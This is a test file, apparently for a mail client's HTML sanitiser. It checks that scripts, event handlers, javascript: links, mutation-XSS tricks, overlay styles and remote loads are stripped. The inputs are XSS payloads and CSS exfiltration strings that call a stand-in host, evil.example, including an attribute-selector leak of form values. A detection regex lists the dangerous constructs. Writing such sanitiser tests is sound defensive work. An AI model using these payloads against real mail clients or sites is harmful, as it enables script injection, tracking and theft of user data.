import { describe, expect, it } from 'vitest';
import { safeHtml } from '../../src/mail/message/html.ts';

const shown = (html: string, remoteImages = false) =>
  safeHtml(html, {
    remoteImages,
    inlineUrl: (id) => (id === 'logo@x' ? 'https://postern.example/download/token' : null),
  });

/** None of this may reach a page, whatever a mail contains. */
const NEVER =
  /<(?:script|style|iframe|object|embed|form|input|button|base|meta|link|svg|math|template|video|audio|frame|textarea|select)\b|\son\w+\s*=|javascript:|vbscript:|url\(|expression\(|@import|position\s*:|srcset|formaction|\bid=|class=/i;

describe('hostile HTML', () => {
  it.each([
    ['a script', '<script>alert(1)</script><p>x</p>'],
    ['a script in pieces', '<scr<script>ipt>alert(1)</scr</script>ipt>'],
    ['a handler', '<img src=x onerror=alert(1)><p onclick="alert(1)">x</p>'],
    ['a handler after a slash', '<img/src="x"/onerror=alert(1)>'],
    ['a javascript link', '<a href="javascript:alert(1)">x</a>'],
    [
      'a javascript link with whitespace',
      '<a href=" java\tscript:alert(1)">x</a><a href="&#106;avascript:alert(1)">y</a>',
    ],
    ['a data link', '<a href="data:text/html,<script>alert(1)</script>">x</a>'],
    [
      'a form',
      '<form action="https://evil.example"><input name=q><button formaction="javascript:alert(1)">x</button></form>',
    ],
    ['a frame', '<iframe srcdoc="<script>alert(1)</script>"></iframe><object data="x"></object><embed src="x">'],
    [
      'a base and a refresh',
      '<base href="https://evil.example/"><meta http-equiv="refresh" content="0;url=https://evil.example">',
    ],
    [
      'a style sheet',
      '<style>body{background:url(https://evil.example/x)}</style><link rel=stylesheet href="https://evil.example/x.css">',
    ],
    ['a style that fetches', '<div style="background-image:url(https://evil.example/x);background:url(x)">x</div>'],
    [
      'a style that escapes its box',
      '<div style="position:fixed;top:0;left:0;width:100%;z-index:9999">x</div><div style="position:absolute">y</div>',
    ],
    ['an escaped style', '<div style="p\\6fsition:fixed;background:u\\72l(https://evil.example)">x</div>'],
    ['an expression', '<div style="width:expression(alert(1))">x</div>'],
    ['an SVG', '<svg onload=alert(1)><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>'],
    [
      'MathML that mutates',
      '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
    ],
    ['a noscript that mutates', '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>'],
    ['a comment', '<!--[if IE]><script>alert(1)</script><![endif]--><p>x</p>'],
    ['a tag that never ends', '<p>x</p><img src="x" onerror="alert(1)"'],
    ['names that pages use', '<p id="root" class="modal">x</p>'],
    ['a srcset', '<img srcset="https://evil.example/x 2x">'],
    ['an attribute that breaks out', '<p title="&quot;&gt;&lt;script&gt;alert(1)&lt;/script&gt;">x</p>'],
  ])('%s is left out', (_, html) => {
    const cleaned = shown(html).replace(/title="[^"]*"/g, '');
    expect(cleaned).not.toMatch(NEVER);
  });

  // Each style is tested in a style attribute, and in a rule that matches the element.
  it.each([
    ['background:u\\72l(https://evil.example)'],
    ['background:u\\000072 l(https://evil.example)'],
    ['background:URL(https://evil.example) red'],
    ['background:url/**/(https://evil.example)'],
    ['background:red url( "https://evil.example" ) no-repeat,url(https://evil.example)'],
    ['background:url(https://evil.example'],
    ['background:url("https://evil.example'],
    ['background:image-set("https://evil.example" 1x) red'],
    ['background:-webkit-image-set(url(https://evil.example) 1x)'],
    ['background:cross-fade(url(https://evil.example),red)'],
    ['background:src("https://evil.example")'],
    ['background-image:linear-gradient(red,url(https://evil.example))'],
    ['background-image:linear-gradient(red,var(--evil))'],
    ['list-style:square url(https://evil.example)'],
    ['list-style-image:url(https://evil.example)'],
    ['border-image:url(https://evil.example) 30'],
    ['cursor:url(https://evil.example),auto'],
    ['content:url(https://evil.example)'],
    ['content:attr(title);quotes:"url(" ")"'],
    ['filter:url(https://evil.example#x)'],
    ['mask:url(https://evil.example);clip-path:url(#x)'],
    ['-moz-binding:url(https://evil.example#x);behavior:url(x.htc)'],
    ['width:expression(alert(1));height:e\\78pression(alert(1))'],
    ['--evil:url(https://evil.example);background:var(--evil)'],
    ['color:env(evil);width:attr(data-x px)'],
    ['position:fixed;inset:0;z-index:99'],
    ['p\\6fsition:absolute;POSITION:sticky;position :fixed'],
    ['font-family:"url(https://evil.example)"'],
    ["font-family:';position:fixed;x:'"],
    ['font:12px "url(x)";src:url(https://evil.example)'],
    ['@import url(https://evil.example);color:red'],
    ['color:red;}*{position:fixed}'],
    ['color:red</style><script>alert(1)</script>'],
    ['color:"</style><img src=x onerror=alert(1)>"'],
    ['color:red;/*;position:fixed'],
    ['color:red\\'],
    ['animation:evil 1s;transition:all 1s;transform:translate(-999px)'],
    ['margin:-99px;top:0;left:0;inset:0;will-change:position'],
  ])('a style is removed, or its dangerous part is: %s', (style) => {
    const attribute = style.replaceAll('&', '&amp;').replaceAll('"', '&quot;');
    const html = `<p style="${attribute}">x</p>`;
    // The rest of a style block that is closed early is shown as words, as in a browser.
    const styles = (of: string) =>
      [...shown(of, true).matchAll(/ style="([^"]*)"/g)].map(([, style]) => style).join(';');
    for (const one of [
      html,
      `<style>p{${style}}</style><p>x</p>`,
      `<style>p{${style}</style><p style="color:blue">x</p>`,
    ]) {
      expect(shown(one, true)).not.toMatch(/<(?!\/?p\b|img \/>)/);
      expect(styles(one)).not.toMatch(
        /url|evil|image-set|expression|import|position|z-index|content|attr|var\(|env\(|--|src|filter|mask|binding|behavior|animation|transition|transform|inset|-99|[\\<>{}]/i,
      );
    }
  });

  it.each([
    ['in SVG', '<svg><style>p{color:red}</style></svg>'],
    ['in MathML', '<math><style>p{color:red}</style></math>'],
    ['in noscript', '<noscript><style>p{color:red}</style></noscript>'],
    ['in a template', '<template><style>p{color:red}</style></template>'],
    ['in a comment', '<!--<style>p{color:red}</style>-->'],
    [
      'of elsewhere',
      '<link rel=stylesheet href="data:text/css,p{color:red}"><style src=x>@import "data:text/css,p{color:red}"</style>',
    ],
    ['in a title', '<title><style>p{color:red}</style></title>'],
    ['that meets what a page has', '<style>:root,#root,.modal,body *:not(p){color:red}</style>'],
    [
      'that asks what is written',
      '<style>input[value^=a]{background:url(https://evil.example/a)}p:has(i){color:red}</style>',
    ],
    ['that asks where the reader was', '<style>p:visited,p:hover,p:target{color:red}</style>'],
  ])('a style block %s has no effect', (_, block) => {
    expect(shown(`${block}<p>x</p>`)).toBe('<p>x</p>');
  });

  it('a style block never reaches a page, however it is written', () => {
    for (const html of [
      '<style>p{color:red}</style ><p>x</p>',
      '<style><!--</style><p>x</p><!----></style>',
      '<STYLE\n>p{}</sTyLe\n><p>x</p>',
      '<style/><p>x</p></style><p>x</p>',
      '<style><style>p{}</style></style><p>x</p>',
      '<p>x</p><style>p{color:red',
      '<style>p{}</style/x="><script>alert(1)</script>"><p>x</p>',
      '<sty<style></style>le>p{}</style><p>x</p>',
      '<style title="</style><script>alert(1)</script>">p{}</style><p>x</p>',
    ])
      expect(shown(html)).not.toMatch(/<(?!\/?p\b)/);
  });

  it('a map or an area cannot take a name that the page uses', () => {
    const html = shown(
      '<map name=document id=forms><area name=x id=y ping="https://evil.example" download href=" javascript:alert(1)" onfocus=alert(1) tabindex=0></map><img usemap="//evil.example#x" usemap="#y" ismap name=z>',
      true,
    );
    expect(html).toMatch(/^<map name="mail-[\da-f]{12}-1"><area \/><\/map><img \/>$/);
  });

  it('loads nothing from other hosts unless requested', () => {
    const html =
      '<img src="https://track.example/p.gif" alt="logo"><img src="//track.example/q.gif"><img src="/local">';
    expect(shown(html)).not.toContain('src=');
    expect(shown(html)).toContain('alt="logo"');
    expect(shown(html)).toContain('data-blocked="remote"');
    expect(shown(html, true)).toContain('src="https://track.example/p.gif"');
    expect(shown(html, true)).toContain('src="https://track.example/q.gif"');
    expect(shown(html, true)).not.toContain('/local');
    expect(
      shown('<table background="https://track.example/p.gif"><tr><td background="x">y</td></tr></table>'),
    ).not.toContain('background');
  });

  it('shows inline images by signed links, and no others', () => {
    expect(shown('<img src="cid:logo@x">')).toContain('src="https://postern.example/download/token"');
    expect(shown('<img src="CID:logo%40x">')).toContain('src="https://postern.example/download/token"');
    expect(shown('<img src="cid:other">')).not.toContain('src=');
  });

  it('keeps raster images in data links, and nothing else', () => {
    expect(shown('<img src="data:image/png;base64,iVBORw0KGgo=">')).toContain('data:image/png');
    expect(shown('<img src="data:image/svg+xml;base64,PHN2Zz4=">')).not.toContain('src=');
    expect(shown('<img src="data:text/html,<script>alert(1)</script>">')).not.toContain('src=');
  });

  it('opens links in a new window and gives them no access', () => {
    expect(shown('<a href="https://a.example" target="_top" rel="opener">x</a>')).toBe(
      '<a target="_blank" rel="noopener noreferrer nofollow" href="https://a.example">x</a>',
    );
    expect(shown('<a href="/graphql?query=mutation">x</a><a href="page.html">y</a>')).not.toContain('href');
    expect(shown('<a href="https:account/delete">x</a><a href="http:/account">y</a>')).not.toContain('href');
  });

  it('keeps the body of a mail whose head is never closed', () => {
    expect(shown('<html><head><title>t</title><meta charset=x><body><p>Hi</p></body></html>')).toContain('<p>Hi</p>');
  });

  it('keeps the appearance of a mail', () => {
    const html =
      '<table width="600" bgcolor="#fff"><tr><td style="padding:10px 20px;color:#333;font-family:Arial, sans-serif"><b>Hi</b></td></tr></table>';
    const cleaned = shown(html);
    expect(cleaned).toContain('padding:10px 20px');
    expect(cleaned).toContain('bgcolor="#fff"');
    expect(cleaned).toContain('font-family:Arial, sans-serif');
  });

  it('finishes in time for input that is too deep, too long or never closed', () => {
    const before = process.cpuUsage();
    shown('<div>'.repeat(50_000));
    shown(`${'<b><i>'.repeat(30_000)}x`);
    shown('<'.repeat(500_000));
    shown(`<p style="${'color:red;'.repeat(20_000)}">x</p>`);
    shown(`<p style="font-family:${'a,'.repeat(50_000)}">x</p>`);
    shown(`<p style="margin:${'1px '.repeat(50_000)}x">x</p>`);
    shown(`<img src="data:image/png;base64,${'A'.repeat(500_000)}!">`);
    shown('&#'.repeat(300_000));
    // Work that is not linear would take hours. CPU time does not depend on how busy the machine is.
    expect(process.cpuUsage(before).user).toBeLessThan(30_000_000);
    expect((shown('<div>'.repeat(1_000)).match(/<div>/g) ?? []).length).toBeLessThanOrEqual(201);
  });
});
